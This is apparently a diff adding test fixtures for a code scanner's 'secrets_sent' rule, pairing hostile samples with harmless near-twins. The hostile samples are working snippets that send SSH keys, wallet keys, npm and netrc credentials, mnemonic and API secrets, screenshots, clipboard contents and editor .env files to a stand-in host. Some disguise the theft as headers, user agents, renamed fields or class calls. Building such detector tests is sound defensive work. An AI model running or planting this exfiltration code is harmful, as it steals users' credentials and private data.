@@ -1,0 +1,147 @@
+"""Samples and twins of `secrets_sent`: headers, fields of other names, tools of an editor, what is done again."""
+
+from inspection.rules.sample import Sample, js, py
+
+
+def _sh(text: str) -> Sample:
+    """A script that plain `make` runs; its last line is the one that must be named."""
+    return Sample(_made(text), "block", ("a.sh", text.count("\n")))
+
+
+def _made(text: str) -> dict[str, str | bytes]:
+    return {"Makefile": "all:\n\tsh a.sh\n", "a.sh": text}
+
+
+HOSTILE: dict[str, dict[str, Sample]] = {
+    "secrets_sent": {
+        "in a header of curl that does not say who asks": _sh(
+            "key=$(base64 < ~/.config/solana/id.json | tr -d '\\n')\ncurl -H \"x-proof: $key\" https://a.invalid\n"
+        ),
+        "as the name of a browser": _sh('curl -s -A "$(cat ~/.npmrc)" https://a.invalid\n'),
+        "a key of the machine where a token stands": js(
+            "const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\n"
+            "fetch('https://a.invalid', { headers: { Authorization: `Bearer ${btoa(key)}` } });\n"
+        ),
+        "by an object whose class alone is declared": Sample(
+            {
+                "wallet.ts": "import { Backup } from './backup';\nimport { homedir } from 'node:os';\n"
+                "import { readFileSync } from 'node:fs';\nexport class Wallet {\n"
+                "  constructor(private readonly backup: Backup) {}\n"
+                "  keep() {\n    return this.backup.save('a', readFileSync(`${homedir()}/.ssh/id_rsa`));\n  }\n}\n",
+                "backup.ts": "export class Backup {\n  async save(key: string, value: string) {\n"
+                "    await fetch('https://a.invalid', { method: 'PUT', body: JSON.stringify({ key, value }) });\n"
+                "  }\n}\n",
+            },
+            "block",
+            ("wallet.ts", 7),
+        ),
+        "words by another name": js(
+            "const deployer = process.env.MNEMONIC;\n"
+            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ address: 'a', deployer }) });\n",
+        ),
+        "a secret that signs, by another name, through a class": Sample(
+            {
+                "app.py": "import os\nfrom licence import Licence\n\nLicence().check('a', os.environ['API_SECRET'])\n",
+                "licence.py": "import requests\n\n\nclass Licence:\n    def check(self, customer, ident):\n"
+                "        requests.post('https://a.invalid', data={'customer': customer, 'ident': ident})\n",
+            },
+            "block",
+            ("app.py", 4),
+        ),
+        "what the screen shows, again and again": js(
+            "const shot = require('screenshot-desktop'), axios = require('axios');\n"
+            "const report = async () => axios.post('https://a.invalid', await shot());\nsetInterval(report, 5000);\n"
+        ),
+        "what is copied, as long as the program runs": py(
+            "import requests, pyperclip, time\nwhile True:\n    text = pyperclip.paste()\n"
+            "    requests.post('https://a.invalid', data=text)\n    time.sleep(3)\n",
+            line=4,
+        ),
+        "settings of whatever project is open in an editor": js(
+            "const vscode = require('vscode');\nexports.activate = async () => {\n"
+            "  for (const file of await vscode.workspace.findFiles('**/.env')) {\n"
+            "    const text = await vscode.workspace.fs.readFile(file);\n"
+            "    await fetch('https://a.invalid', { method: 'POST', body: text });\n  }\n};\n",
+            line=3,
+        ),
+        "by a client that a framework gives": Sample(
+            {
+                "app.py": "import os\nfrom dataclasses import dataclass\n\nfrom mail import Mail\n\n\n@dataclass\n"
+                "class Jobs:\n    mail: Mail\n\n    def run(self):\n"
+                "        self.mail.send(open(os.path.expanduser('~/.netrc')).read())\n",
+                "mail.py": "import httpx\n\n\nclass Mail:\n    def __init__(self, client: httpx.Client):\n"
+                "        self.client = client\n\n    def send(self, text):\n"
+                "        self.client.post('https://a.invalid', content=text)\n",
+            },
+            "block",
+            ("app.py", 12),
+        ),
+    },
+    "inventory_sent": {
+        "who asks for a price, and from where": py(
+            "import getpass, platform, requests\nwho = {'user': getpass.getuser(), 'node': platform.node()}\n"
+            "requests.post('https://a.invalid', json={'code': 1, 'client': who})\n",
+            "review",
+        ),
+    },
+}
+
+HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
+    "secrets_sent": {
+        "in a header of curl that says who asks": _made(
+            'key=$(cut -d= -f2 < ~/.npmrc)\ncurl -H "x-auth-token: $key" https://a.invalid\n'
+        ),
+        "the name of a browser that stands there": _made(
+            'curl -s -A "Mozilla/5.0" -u "me:$(cat ~/.netrc)" https://a.invalid\n'
+        ),
+        "a token of a registry where a token stands": {
+            "app.js": "const key = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
+            "fetch('https://a.invalid', { headers: { Authorization: `Bearer ${btoa(key)}` } });\n"
+        },
+        "something else by an object whose class alone is declared": {
+            "wallet.ts": "import { Backup } from './backup';\nimport { homedir } from 'node:os';\n"
+            "import { readFileSync } from 'node:fs';\nexport class Wallet {\n"
+            "  constructor(private readonly backup: Backup) {}\n"
+            "  keep() {\n    readFileSync(`${homedir()}/.ssh/id_rsa`);\n    return this.backup.save('a', 'b');\n"
+            "  }\n}\n",
+            "backup.ts": "export class Backup {\n  async save(key: string, value: string) {\n"
+            "    await fetch('https://a.invalid', { method: 'PUT', body: JSON.stringify({ key, value }) });\n  }\n}\n",
+        },
+        "words that a service signs with, by their name": {
+            "app.js": "const words = process.env.DEPLOYER;\n"
+            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ deployer: words }) });\n",
+        },
+        "a secret by its name, through a class": {
+            "app.py": "import os\nfrom licence import Licence\n\nLicence().check('a', os.environ['API_SECRET'])\n",
+            "licence.py": "import requests\n\n\nclass Licence:\n    def check(self, customer, ident):\n"
+            "        requests.post('https://a.invalid', data={'customer': customer, 'client_secret': ident})\n",
+        },
+        "the time, again and again": {
+            "app.js": "const shot = require('screenshot-desktop'), axios = require('axios');\n"
+            "const report = async () => axios.post('https://a.invalid', Date.now());\nsetInterval(report, 9);\n"
+        },
+        "how much is copied, as long as the program runs": {
+            "app.py": "import requests, pyperclip, time\nwhile True:\n    text = pyperclip.paste()\n"
+            "    requests.post('https://a.invalid', data=str(len(text)))\n    time.sleep(3)\n"
+        },
+        "how many projects are open in an editor": {
+            "app.js": "const vscode = require('vscode');\nexports.activate = async () => {\n"
+            "  const files = await vscode.workspace.findFiles('**/.env');\n"
+            "  await fetch('https://a.invalid', { method: 'POST', body: String(files.length) });\n};\n",
+        },
+        "a client that keeps what it is told": {
+            "app.py": "import os\nfrom dataclasses import dataclass\n\nfrom mail import Mail\n\n\n@dataclass\n"
+            "class Jobs:\n    mail: Mail\n\n    def run(self):\n"
+            "        self.mail.send(open(os.path.expanduser('~/.netrc')).read())\n",
+            "mail.py": "import httpx\n\n\nclass Mail:\n    def __init__(self, client: httpx.Client):\n"
+            "        self.client = client\n\n    def send(self, text):\n"
+            "        self.client.post('https://a.invalid', content='a')\n        return text\n",
+        },
+    },
+    "inventory_sent": {
+        "where an error happened": {
+            "app.py": "import platform, requests\nwho = {'system': platform.system(), 'node': platform.node()}\n"
+            "requests.post('https://a.invalid', json={'code': 1, 'client': who})\n"
+        },
+    },
+}
